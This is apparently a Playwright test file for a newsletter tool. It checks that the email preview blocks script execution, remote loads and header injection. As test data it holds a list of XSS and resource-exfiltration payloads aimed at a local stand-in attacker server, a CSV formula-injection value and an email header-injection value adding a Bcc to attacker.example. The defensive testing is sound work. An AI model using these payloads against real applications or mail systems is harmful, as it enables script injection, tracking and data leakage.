// A message, or a row, that wants out of its preview.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { file, folder, go, open, openSample } from "./app.ts";
import { expect, test } from "./journey.ts";

/** A server that waits for anything to reach it. */
let attacker: Server;
let OUT = "";
const reached: string[] = [];

test.beforeAll(async () => {
  attacker = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((ready) => attacker.listen(0, "127.0.0.1", ready));
  OUT = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});

test.afterAll(() => attacker.close());

/** `RAN` is what a script would leave behind. */
const RAN = "top.ran=(top.ran||0)+1;window.ran=1;parent.postMessage('ran','*')";

/** What is tried, each in its own words. */
const tries = (): string[] => [
  `<script>${RAN}</script>`,
  `<script src="${OUT}/s.js"></script>`,
  `<script type="module">import("${OUT}/m.js")</script>`,
  `<img src="${OUT}/pixel.gif" onerror="${RAN}" onload="${RAN}">`,
  `<img src="x" srcset="${OUT}/set.png 2x" onerror="${RAN}">`,
  `<picture><source srcset="${OUT}/source.webp"><img src="${OUT}/p.png" alt=""></picture>`,
  `<svg onload="${RAN}"><image href="${OUT}/svg.png"/><script>${RAN}</script><use href="${OUT}/u.svg#a"/></svg>`,
  `<svg><a href="javascript:${RAN}"><text y="20">svg link</text></a><animate attributeName="href" values="javascript:${RAN}"/></svg>`,
  `<svg><a xlink:href="${OUT}/xlink" id="xlink"><rect width="30" height="30"/></a><a xlink:href="/" id="home-link"><rect y="40" width="30" height="30"/></a></svg>`,
  `<svg><a href="#x" id="moving-link"><animate attributeName="href" values="/;/" dur="1s" repeatCount="indefinite"/><rect width="30" height="30"/></a></svg>`,
  `<math><mtext><style><img src=x onerror="${RAN}"></style></mtext></math>`,
  `<iframe src="${OUT}/frame"></iframe><iframe srcdoc="<script>${RAN}</script>"></iframe>`,
  `<object data="${OUT}/o"></object><embed src="${OUT}/e"><frameset><frame src="${OUT}/f"></frameset>`,
  `<link rel="stylesheet" href="${OUT}/l.css"><link rel="preload" as="image" href="${OUT}/pre.png"><link rel="dns-prefetch" href="//${OUT.slice(7)}">`,
  `<meta http-equiv="refresh" content="0;url=${OUT}/refresh">`,
  `<base href="${OUT}/base/"><a href="relative" id="based">based</a>`,
  `<style>@import "${OUT}/import.css";body{background:url(${OUT}/bg.png)}@font-face{font-family:x;src:url(${OUT}/f.woff)}p{font-family:x}</style>`,
  `<p style="background-image:url(${OUT}/inline.png)">inline</p><table background="${OUT}/table.png"><tr><td>t</td></tr></table>`,
  `<video src="${OUT}/v.mp4" poster="${OUT}/poster.png" autoplay onloadstart="${RAN}"></video><audio src="${OUT}/a.mp3" autoplay></audio>`,
  `<form action="${OUT}/form" id="form"><input name="q" autofocus onfocus="${RAN}"><button>send</button></form>`,
  `<a href="javascript:${RAN}" id="script-link">script link</a>`,
  `<a href="${OUT}/top" target="_top" id="top-link">top link</a>`,
  `<a href="${OUT}/self" id="self-link">self link</a>`,
  `<a href="${OUT}/ping" ping="${OUT}/pinged" id="ping-link">ping link</a>`,
  `<details open ontoggle="${RAN}"><summary>x</summary></details>`,
  `<body onload="${RAN}" onpageshow="${RAN}">`,
  `<template shadowrootmode="open"><script>${RAN}</script></template>`,
  `<input type="image" src="${OUT}/i.png"><noscript><img src="${OUT}/n.png"></noscript>`,
  `<!--[if mso]><img src="${OUT}/mso.png"><![endif]-->`,
];

/** A row whose values want out of where they are merged. */
const ROW_TRIES = [
  `<script>${RAN}</script>`,
  `</title></style></textarea></noscript><img src=x onerror=${RAN}>`,
  `" onmouseover="${RAN}" x="`,
  `javascript:${RAN}`,
  `=cmd|' /C calc'!A0`,
];

async function watched(page: Page): Promise<string[]> {
  const out: string[] = [];
  page.on("popup", (popup) => out.push(`popup ${popup.url()}`));
  page.on("dialog", (dialog) => {
    out.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("frameattached", (frame) => {
    if (frame.parentFrame()?.parentFrame()) out.push(`frame ${frame.url()}`);
  });
  return out;
}

async function show(page: Page, html: string, rows: string): Promise<void> {
  const here = await folder();
  await open(page);
  await page.getByLabel("Choose a CSV file").setInputFiles(await file(here, "customers.csv", rows));
  await go(page, "Message");
  await page.getByLabel("Sender’s address").fill("news@example.com");
  await page.getByLabel("Choose files").setInputFiles([
    await file(here, "en.subject.txt", "Hello {{first_name}}"),
    await file(here, "en.body.html", html),
  ]);
  await page.getByLabel("People without a template of their own get").selectOption("en");
  await expect(page.locator("iframe.preview")).toBeVisible();
}

const quoted = (value: string): string => `"${value.replaceAll('"', '""')}"`;

async function nothingGotOut(page: Page, out: string[]): Promise<void> {
  await page.waitForTimeout(500);
  expect(out, "windows, dialogs and frames").toEqual([]);
  expect(reached, "requests").toEqual([]);
  for (const frame of page.frames()) {
    expect(await frame.evaluate(() => (globalThis as { ran?: number }).ran), frame.url()).toBeUndefined();
    if (frame.parentFrame()) expect(new URL(frame.url()).pathname).toMatch(/^\/preview\/(no-)?pictures\.html$/);
  }
}

test("a hostile message runs nothing and reaches nobody from its preview", async ({ page, complaints }) => {
  const out = await watched(page);
  const rows = "email,first_name\nann@example.com,Ann\n";
  await show(page, `<html><body><p>{{first_name}}</p>${tries().join("\n")}</body></html>`, rows);
  const frame = page.frameLocator("iframe.preview");
  await expect(frame.getByText("Ann").first()).toBeVisible();
  for (const link of ["#based", "#script-link", "#top-link", "#self-link", "#ping-link", "#xlink", "#home-link", "#moving-link"]) {
    await frame.locator(link).click({ force: true });
  }
  await frame.getByRole("button", { name: "send" }).click({ force: true });
  await frame.locator("input[name=q]").press("Enter");
  await nothingGotOut(page, out);
  await expect(page).toHaveURL(/#message$/);
  await expect(page.getByRole("heading", { name: "What do they get?" })).toBeVisible();

  // Without pictures, dark, narrow: the same message, the same walls.
  await page.getByRole("checkbox", { name: "Pictures" }).uncheck();
  await page.getByRole("checkbox", { name: "Dark" }).check();
  await page.getByLabel("As wide as a phone").check();
  await expect(frame.getByText("Ann").first()).toBeVisible();
  await nothingGotOut(page, out);
  // The browser says what it forbade: that is what is expected here.
  complaints.length = 0;
});

test("each try alone is held back too", async ({ page, complaints }) => {
  test.slow();
  const out = await watched(page);
  const rows = "email,first_name\nann@example.com,Ann\n";
  await show(page, "<p>first</p>", rows);
  await page.getByRole("button", { name: /^Write on en\.body\.html/ }).click();
  const text = page.getByRole("textbox", { name: "Text of en.body.html" });
  for (const [nth, html] of tries().entries()) {
    await text.fill(`${html}<p id="mark">try ${nth}</p>`);
    // Some of them swallow what follows.
    await expect(page.frameLocator("iframe.preview").locator("html")).not.toContainText(`try ${nth - 1}`);
    expect(out.concat(reached), html).toEqual([]);
  }
  await nothingGotOut(page, out);
  complaints.length = 0;
});

test("a hostile row stays text, in the HTML and in the headers", async ({ page }) => {
  const out = await watched(page);
  const values = [...ROW_TRIES, "Ann\r\nBcc: everybody@attacker.example\r\n\r\nbody"];
  const rows = values.map((value, nth) => `p${nth}@example.com,${quoted(value)}\r\n`).join("");
  const html = '<p title="{{first_name}}">Dear {{first_name}}, <a href="https://example.com/?n={{first_name}}">yours</a></p>';
  await show(page, html, `email,first_name\r\n${rows}`);
  const row = page.getByLabel("Row of the recipient file");
  const frame = page.frameLocator("iframe.preview");
  for (const [nth, value] of ROW_TRIES.entries()) {
    await row.fill(String(nth + 1));
    await expect(frame.locator("p").first()).toContainText(value);
    expect(await frame.locator("p").count()).toBe(1);
    expect(await frame.locator("script, img").count()).toBe(0);
  }
  await nothingGotOut(page, out);

  // A line break in a value would begin a header of its own: it is refused, and said.
  await row.fill(String(values.length));
  await page.getByRole("radio", { name: /^The raw message/ }).check();
  await expect(page.getByRole("group", { name: "The raw message" })).toHaveCount(0);
  const preview = page.getByRole("region", { name: "What one of them reads" });
  await expect(preview.locator(".finding.error")).toHaveCount(1);
  await expect(preview.locator(".finding.error")).toContainText(/line break/);
  await row.fill("1");
  const raw = page.getByRole("group", { name: "The raw message" });
  await expect(raw).toContainText("To: <p0@example.com>");
  await expect(raw).not.toContainText("Bcc");
  await page.getByRole("radio", { name: /^Plain text/ }).check();
  await expect(page.getByText("Made from the HTML part: nobody wrote a text.")).toBeVisible();
});

test("an honest newsletter keeps its styles, and says which pictures are not loaded", async ({ page }) => {
  const out = await watched(page);
  const html = `<html lang="en"><head><style>.lead { color: rgb(10, 20, 30) }</style></head><body>
    <p class="lead" style="font-size: 20px">Dear {{first_name}}</p>
    <img src="https://cdn.example.com/a.png" alt="The new index" width="300" height="80">
    <img alt="dot" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"></body></html>`;
  await show(page, html, "email,first_name\nann@example.com,Ann\n");
  const lead = page.frameLocator("iframe.preview").locator(".lead");
  await expect(lead).toHaveCSS("color", "rgb(10, 20, 30)");
  await expect(lead).toHaveCSS("font-size", "20px");
  await expect(page.getByText("1 picture on a server is not loaded here")).toBeVisible();
  const dot = page.frameLocator("iframe.preview").getByAltText("dot");
  expect(await dot.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  await nothingGotOut(page, out);
});

test("what the provider gets shows one address", async ({ page }) => {
  await openSample(page);
  await go(page, "Message");
  await page.getByRole("radio", { name: /^What the provider gets/ }).check();
  const preview = page.getByRole("region", { name: "What one of them reads" });
  await expect(preview).toContainText("the recipient sees 1 visible address");
  await expect(preview.getByRole("group", { name: "The request" })).toContainText("personalizations");
  await page.getByRole("radio", { name: /^The raw message/ }).check();
  await expect(preview.getByRole("group", { name: "The raw message" })).toContainText("Content-Type: multipart/alternative");
});

test("the preview says whether the person of a row is mailed", async ({ page }) => {
  const rows = "email,first_name\nann@example.com,Ann\ngone@example.com,Gil\nANN@example.com,Ann\nnobody,Nob\n";
  await show(page, "<p>Dear {{first_name}}</p>", rows);
  const preview = page.getByRole("region", { name: "What one of them reads" });
  const row = page.getByLabel("Row of the recipient file");
  await expect(preview.getByText("This person is mailed.")).toBeVisible();
  await row.fill("3");
  await expect(preview.getByText("This row is not mailed: it repeats row 1, and the first one counts.")).toBeVisible();
  await expect(page.frameLocator("iframe.preview").getByText("Dear Ann")).toBeVisible();
  await row.fill("4");
  await expect(preview.getByText("This row is not mailed: the address is none that mail systems take.")).toBeVisible();
  await row.fill("2");
  await expect(preview.getByText("This person is mailed.")).toBeVisible();

  // Who comes onto a list meanwhile is not.
  await go(page, "Audience");
  const list = await file(await folder(), "unsubscribed.csv", "gone@example.com\n");
  await page.getByLabel("Add a list").setInputFiles(list);
  await expect(page.getByText("unsubscribed.csv").first()).toBeVisible();
  await go(page, "Message");
  await row.fill("2");
  await expect(
    preview.getByText("This person is not mailed: the address is on the suppression list unsubscribed.csv."),
  ).toBeVisible();
});
